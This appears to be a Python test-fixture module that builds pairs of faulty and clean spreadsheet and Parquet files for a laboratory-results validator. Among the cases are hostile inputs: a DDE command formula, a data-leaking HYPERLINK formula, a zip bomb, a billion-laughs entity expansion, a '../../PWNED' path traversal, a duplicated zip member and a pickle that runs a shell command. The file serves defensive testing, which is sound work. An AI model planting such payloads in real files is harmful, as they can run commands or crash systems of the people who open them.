"""Workbooks and Parquet files of the corpus: simulated results, each beside its good twin. The same bytes every time."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from datetime import date, datetime
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.worksheet.worksheet import Worksheet

Pair = tuple[bytes, bytes]
WATER = ["site", "date", "analyte", "concentration", "unit", "lod", "loq"]
HAIR = ["subject", "date", "analyte", "concentration", "unit", "lod", "loq", "cutoff"]
SHEET1 = "xl/worksheets/sheet1.xml"
_CORE = "docProps/core.xml"
_MIB = 1 << 20


def _water() -> Workbook:
    book = Workbook()
    sheet = book.active
    sheet.title = "results"
    sheet.append(WATER)
    for day, concentration in ((4, 250), (5, 12.5), (6, 310)):
        sheet.append(["A", date(2024, 3, day), "methamphetamine", concentration, "ng/L", 0.5, 1])
    return book


def _hair() -> Workbook:
    book = Workbook()
    sheet = book.active
    sheet.title = "results"
    sheet.append(HAIR)
    for subject, day, concentration in (("P-7F3K", 4, 0.8), ("P-2M9Q", 5, 1.25), ("P-5T1X", 6, 0.6)):
        sheet.append([subject, date(2024, 3, day), "methamphetamine", concentration, "ng/mg", 0.05, 0.1, 0.2])
    return book


def _bytes(book: Workbook, *, author: str = "", **parts: bytes) -> bytes:
    """Save a workbook without the time of day in it."""
    stream = io.BytesIO()
    book.save(stream)
    return _packed(stream.getvalue(), author=author, add=parts)


def _packed(
    content: bytes,
    *,
    author: str = "",
    add: Mapping[str, bytes] | None = None,
    change: Callable[[str, bytes], bytes] = lambda name, data: data,
    twice: str = "",
) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stream, "w") as new:
        parts = {name: change(name, old.read(name)) for name in old.namelist()}
        if _CORE in parts:
            core = re.sub(rb"(<dcterms:\w+[^>]*>)[^<]*", rb"\g<1>2024-03-07T00:00:00Z", parts[_CORE])
            parts[_CORE] = re.sub(rb"(<dc:creator>)[^<]*", rb"\g<1>" + author.encode(), core)
        for name, data in [*parts.items(), *(add or {}).items()]:
            new.writestr(_member(name), data)
        if twice:
            new.writestr(_member("placeholder.xml"), parts[twice])
    packed = stream.getvalue()
    return packed.replace(b"placeholder.xml", twice.encode()) if len(twice) == len("placeholder.xml") else packed


def _member(name: str) -> zipfile.ZipInfo:
    member = zipfile.ZipInfo(name, (2024, 3, 7, 0, 0, 0))
    member.compress_type = zipfile.ZIP_DEFLATED
    return member


def _edited(edit: Callable[[Worksheet], object], book: Callable[[], Workbook] = _water) -> Pair:
    bad = book()
    edit(bad.active)
    return _bytes(bad), _bytes(book())


def _in_sheet(old: bytes, new: bytes) -> Pair:
    good = _bytes(_water())

    def change(name: str, data: bytes) -> bytes:
        assert name != SHEET1 or old in data
        return data.replace(old, new, 1) if name == SHEET1 else data

    return _packed(good, change=change), good


def _with_part(name: str, data: bytes) -> Pair:
    good = _bytes(_water())
    return _packed(good, add={name: data}), good


def _set(cell: str, value: object) -> Callable[[Worksheet], object]:
    return lambda sheet: setattr(sheet[cell], "value", value)


# Formulas, errors, programs


def formula_without_value(folder: Path) -> Pair:
    return _edited(_set("D3", "=D2/20"))


def formula_with_value(folder: Path) -> Pair:
    return _in_sheet(b"<v>12.5</v>", b"<f>D2/20</f><v>12.5</v>")


def formula_as_text(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        sheet["A3"].value = "=cmd|' /C calc'!A0"
        sheet["A3"].data_type = "s"

    return _edited(edit)


def formula_hyperlink(folder: Path) -> Pair:
    return _edited(_set("A3", '=HYPERLINK("https://example.org/?"&B2,"A")'))


def external_link(folder: Path) -> Pair:
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return _with_part("xl/externalLinks/externalLink1.xml", link)


def macros(folder: Path) -> Pair:
    return _with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 simulated")


def embedded_file(folder: Path) -> Pair:
    return _with_part("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 simulated")


def error_cell(folder: Path) -> Pair:
    return _edited(_set("D3", "#N/A"))


# Bombs and damaged packages


def zip_bomb(folder: Path) -> Pair:
    return _with_part("xl/media/padding.xml", b" " * (60 * _MIB))


def sheet_of_100_megabytes(folder: Path) -> Pair:
    padding = b"<row/>" * (100 * _MIB // 6)
    good = _bytes(_water())
    bad = _packed(
        good, change=lambda name, data: data.replace(b"</sheetData>", padding + b"</sheetData>") if name == SHEET1 else data
    )
    return bad, good


def far_cell(folder: Path) -> Pair:
    return _edited(lambda sheet: sheet.cell(1_048_576, 16_384, "x"))


def entities(folder: Path) -> Pair:
    good = _bytes(_water())
    lol = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)
    )
    bad = _packed(good, change=lambda name, data: lol + b"]>" + data.replace(b">A<", b">&j;<", 1) if name == SHEET1 else data)
    return bad, good


def leaves_the_package(folder: Path) -> Pair:
    return _with_part("../../PWNED", b"simulated")


def member_twice(folder: Path) -> Pair:
    """Hold the workbook part twice; a reader that takes the first and one that takes the last see different workbooks."""
    good = _bytes(_water())
    return _packed(good, twice="xl/workbook.xml"), good


def encrypted_member(folder: Path) -> Pair:
    good = _bytes(_water())
    bad = bytearray(good)
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        bad[bad.index(mark) + at] |= 1
    return bytes(bad), good


def workbook_cut_off(folder: Path) -> Pair:
    good = _bytes(_water())
    return good[: len(good) * 3 // 4], good


# Sheets, rows, columns


def picture(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=4, min_row=2, max_row=4))
        sheet.add_chart(chart, "B2")

    return _edited(edit)


def number_as_text(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        sheet["D3"].value = "12.5"
        sheet["D3"].quotePrefix = True

    return _edited(edit)


def merged_header(folder: Path) -> Pair:
    return _edited(lambda sheet: sheet.merge_cells("F1:G1"))


def cover_sheet(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        sheet.parent.create_sheet("cover", 0).append(["simulated results"])

    return _edited(edit)


def hidden_sheet(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        key = sheet.parent.create_sheet("key")
        key.append(["A", "simulated"])
        key.sheet_state = "hidden"

    return _edited(edit)


def hidden_rows(folder: Path) -> Pair:
    return _edited(lambda sheet: setattr(sheet.row_dimensions[3], "hidden", True))


def filter_switched_on(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        sheet.auto_filter.ref = "A1:G4"
        sheet.auto_filter.add_filter_column(0, ["A"])

    bad = _water()
    edit(bad.active)
    good = _water()
    good.active.auto_filter.ref = "A1:G4"  # it can be filtered, and nothing is
    return _bytes(bad), _bytes(good)


def three_hundred_columns(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        for column in range(8, 301):
            sheet.cell(1, column, f"extra{column}")

    return _edited(edit)


def beside_the_table(folder: Path) -> Pair:
    return _edited(_set("I3", "see the other file"))


def hidden_column(folder: Path) -> Pair:
    return _edited(lambda sheet: setattr(sheet.column_dimensions["F"], "hidden", True))


def comment(folder: Path) -> Pair:
    return _edited(lambda sheet: setattr(sheet["D3"], "comment", Comment("measured twice", "")))


def profile_names_the_sheet(folder: Path) -> Pair:
    return cover_sheet(folder)


# Days


def since_1904(folder: Path) -> Pair:
    bad = _water()
    bad.epoch = datetime(1904, 1, 1)
    return _bytes(bad), _bytes(_water())


def day_before_60(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        sheet["B3"].value = 59
        sheet["B3"].number_format = "yyyy-mm-dd"

    return _edited(edit)


def day_as_text(folder: Path) -> Pair:
    def edit(sheet: Worksheet) -> None:
        sheet["B3"].value = "2024-03-05"
        sheet["B3"].number_format = "@"
        sheet["B3"].quotePrefix = True

    return _edited(edit)


# Persons


def author_in_properties(folder: Path) -> Pair:
    return _bytes(_hair(), author="张三"), _bytes(_hair())


def comment_about_a_person(folder: Path) -> Pair:
    return _edited(lambda sheet: setattr(sheet["D3"], "comment", Comment("张三, second visit", "")), _hair)


def hidden_column_of_names(folder: Path) -> Pair:
    return _edited(lambda sheet: setattr(sheet.column_dimensions["H"], "hidden", True), _hair)


# Parquet


def _table() -> pa.Table:
    return pa.table(
        {
            "site": ["A", "A", "A"],
            "date": pa.array([date(2024, 3, day) for day in (4, 5, 6)]),
            "analyte": ["methamphetamine"] * 3,
            "concentration": [250.0, 12.5, 310.0],
            "unit": ["ng/L"] * 3,
            "lod": [0.5] * 3,
            "loq": [1.0] * 3,
        }
    )


def _parquet(table: pa.Table, checksums: bool = True) -> bytes:
    sink = io.BytesIO()
    pq.write_table(table, sink, write_page_checksum=checksums, compression="none", use_dictionary=False, store_schema=True)
    return sink.getvalue()


def parquet_truncated(folder: Path) -> Pair:
    good = _parquet(_table())
    return good[: len(good) // 2], good


def parquet_of_four_bytes(folder: Path) -> Pair:
    return b"PAR1", _parquet(_table())


def csv_renamed_parquet(folder: Path) -> Pair:
    return ",".join(WATER).encode() + b"\nA,2024-03-05,methamphetamine,12.5,ng/L,0.5,1\n", _parquet(_table())


def parquet_bit_flip(folder: Path) -> Pair:
    good = _parquet(_table())
    bad = bytearray(good)
    bad[bad.index(b"\x0f\0\0\0methamphetamine") + 6] ^= 0x01  # in a page of data
    return bytes(bad), good


def parquet_without_checksums(folder: Path) -> Pair:
    return _parquet(_table(), checksums=False), _parquet(_table())


def parquet_of_pickles(folder: Path) -> Pair:
    # What a pickle that runs a program looks like; it is bytes here, and nobody loads it.
    pickled = pa.array([b"cposix\nsystem\n(S'touch PWNED'\ntR."] * 3, pa.binary())
    return _parquet(_table().append_column("laboratory", pickled)), _parquet(_table())


def parquet_hidden_index(folder: Path) -> Pair:
    frame = _table().to_pandas()
    bad = pa.Table.from_pandas(frame.set_axis(["P-7F3K", "P-2M9Q", "P-5T1X"]))
    return _parquet(bad), _parquet(pa.Table.from_pandas(pd.DataFrame(frame), preserve_index=False))
